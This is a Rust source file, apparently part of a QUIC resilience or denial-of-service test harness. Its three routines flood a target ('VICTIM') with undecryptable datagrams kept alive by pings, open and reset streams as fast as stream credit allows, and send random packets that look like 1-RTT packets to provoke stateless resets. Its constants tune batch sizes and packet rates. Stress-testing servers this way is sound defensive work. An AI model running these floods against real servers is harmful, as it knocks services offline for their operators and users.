//! Attacks with many cheap packets.

use std::{net::UdpSocket, thread, time::Duration};

use anyhow::Result;
use rand::RngExt;

use super::{
    OWN, Prepared, VICTIM, frames,
    peer::{Introduction, Peer, send_batch},
};

/// Datagrams to one connection that cannot be decrypted.
pub fn garbage() -> Result<Prepared> {
    let introduction = Introduction::of_a_peer(VICTIM)?;
    let mut peer = Peer::dial(&introduction)?;
    Ok(Box::new(move |run| {
        run.attacked.begun = 1;
        while run.goes_on() {
            let batch: Vec<u8> = (0..BATCH).flat_map(|_| peer.garbage(GARBAGE)).collect();
            peer.send_batch(&batch, GARBAGE as u16);
            run.sent(BATCH, batch.len());
            // The garbage does not keep the connection alive, so pings do.
            if run.attacked.datagrams.is_multiple_of(PING_EVERY) {
                let ping = peer.packet(&[frames::PING]);
                peer.send(&ping);
            }
        }
        peer.listen();
        run.attacked.ended = u64::from(peer.is_closed);
        Ok(vec![peer])
    }))
}

/// Streams that are opened and reset at once, as many as permitted.
pub fn resets() -> Result<Prepared> {
    let mut peer = Peer::dial(&Introduction::of_a_peer(VICTIM)?)?;
    Ok(Box::new(move |run| {
        run.attacked.begun = 1;
        let mut next = 0;
        while run.goes_on() && !peer.is_closed {
            let end = peer.max_streams.min(next + PER_PACKET);
            let mut frames = Vec::new();
            // The victim discards a stream when its own reset is acknowledged.
            peer.acknowledge(&mut frames);
            for index in next..end {
                frames::stream(&mut frames, 4 * index, 0, &[0]);
                frames::reset_stream(&mut frames, 4 * index, 1);
            }
            if next == end {
                thread::sleep(CREDIT);
            }
            next = end;
            let datagram = peer.padded(&frames, SMALLEST);
            peer.send(&datagram);
            run.sent(1, datagram.len());
            peer.listen();
        }
        run.attacked.ended = u64::from(peer.is_closed);
        run.attacked.streams = Some(next);
        Ok(vec![peer])
    }))
}

/// Datagrams that look like 1-RTT packets of unknown connections.
pub fn unknown_ids() -> Result<Prepared> {
    let socket = UdpSocket::bind((OWN, 0))?;
    Ok(Box::new(move |run| {
        let mut rng = rand::rng();
        while run.goes_on() {
            let mut batch = vec![0; BATCH as usize * UNKNOWN];
            rng.fill(&mut batch[..]);
            for datagram in batch.chunks_mut(UNKNOWN) {
                datagram[0] = 0x40 | datagram[0] & 0x3f;
            }
            // Packets without room are lost, as on any network.
            let _ = send_batch(&socket, VICTIM, &batch, UNKNOWN as u16);
            run.sent(BATCH, batch.len());
        }
        Ok(Vec::new())
    }))
}

/// Datagrams that are sent at once.
const BATCH: u64 = 45;

/// Bytes of a datagram: small garbage, and the smallest packet that is answered with a reset.
const GARBAGE: usize = 100;
const UNKNOWN: usize = 60;

/// Bytes of the smallest packet; a packet without a frame is an error.
const SMALLEST: usize = 40;

/// Streams in a packet.
const PER_PACKET: u64 = 80;

/// A ping after this many datagrams, twice a second.
const PING_EVERY: u64 = 400 * BATCH;

/// Time until more streams may be permitted.
const CREDIT: Duration = Duration::from_micros(200);
